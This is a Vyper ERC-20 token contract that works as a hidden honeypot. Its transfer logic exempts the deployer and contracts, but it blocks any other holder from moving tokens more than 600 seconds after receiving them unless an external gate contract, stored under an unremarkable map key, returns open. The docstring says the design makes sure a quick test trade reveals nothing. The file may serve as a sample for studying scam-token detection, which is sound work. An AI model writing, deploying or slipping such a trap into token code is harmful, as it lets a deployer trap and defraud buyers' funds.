# pragma version 0.4.3
# pragma evm-version cancun
"""
@title Asks another contract that it hides, but only some time after the purchase
@notice In a trade of one moment nobody sees that it does.
"""

from ..tokens.lib import erc20

initializes: erc20

exports: (
    erc20.name,
    erc20.symbol,
    erc20.decimals,
    erc20.totalSupply,
    erc20.balanceOf,
    erc20.allowance,
    erc20.approve,
)

interface Gate:
    def isOpen() -> bool: view

WAIT_S: constant(uint256) = 600
# Found by a number, which says nothing of where it is kept.
gates: HashMap[uint256, Gate]
maker: address
receivedAt: HashMap[address, uint256]


@deploy
def __init__(name: String[64], symbol: String[32], supply: uint256, gate: address):
    erc20.__init__(name, symbol, 18, supply)
    self.maker = msg.sender
    self.gates[7] = Gate(gate)


@internal
def _move(source: address, to: address, amount: uint256):
    at: uint256 = self.receivedAt[source]
    if source != self.maker and not source.is_contract and block.timestamp > at + WAIT_S:
        assert staticcall self.gates[7].isOpen(), "closed"
    self.receivedAt[to] = block.timestamp
    erc20._move(source, to, amount)


@external
def transfer(to: address, amount: uint256) -> bool:
    self._move(msg.sender, to, amount)
    return True


@external
def transferFrom(source: address, to: address, amount: uint256) -> bool:
    erc20._spend(source, msg.sender, amount)
    self._move(source, to, amount)
    return True
